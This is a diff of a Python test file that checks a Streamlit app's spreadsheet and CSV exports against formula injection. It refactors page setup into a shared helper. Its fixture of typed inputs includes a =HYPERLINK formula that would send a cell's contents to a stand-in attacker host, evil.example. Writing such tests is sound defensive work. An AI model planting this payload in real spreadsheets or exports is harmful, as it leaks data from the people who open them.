@@ -14,16 +14,14 @@ import io
 import pytest
 from openpyxl import load_workbook
 from streamlit.runtime.media_file_manager import MediaFileManager
-from streamlit.testing.v1 import AppTest
 
 from lib.access import User, write
-from lib.config import PROJECT_ROOT
 from lib.present import FORMULA_STARTS, csv_bytes, neutral
 from lib.store.sqlite_store import SQLiteStore
 from lib.xlsx_tables import table_xlsx
 from tests.support import libreoffice
+from tests.support.shown import opened
 
-APP = str(PROJECT_ROOT / "app.py")
 COORDINATOR = User("coordinator@lensk.demo", "Беляев И.А.", "coordinator", None)
 # what people type (OWASP's examples and the issue's), one per starting character
 TYPED = {"name": '=HYPERLINK("http://evil.example/?"&A1;"ВЭС")', "settlement": "+1 Пеледуй", "decision": "-5 должников: провести сверку",
@@ -77,14 +75,8 @@ def downloads(monkeypatch):
     return take
 
 
-def page(login: str, path: str, state: dict | None = None) -> AppTest:
-    at = AppTest.from_file(APP, default_timeout=120)
-    at.session_state["user_login"] = login
-    at.run()
-    at.switch_page(path)
-    for k, v in (state or {}).items():
-        at.session_state[k] = v
-    at.run()
+def page(login: str, path: str, state: dict | None = None):
+    at = opened(login, path, state)
     assert not at.exception, [e.value for e in at.exception]
     return at
 
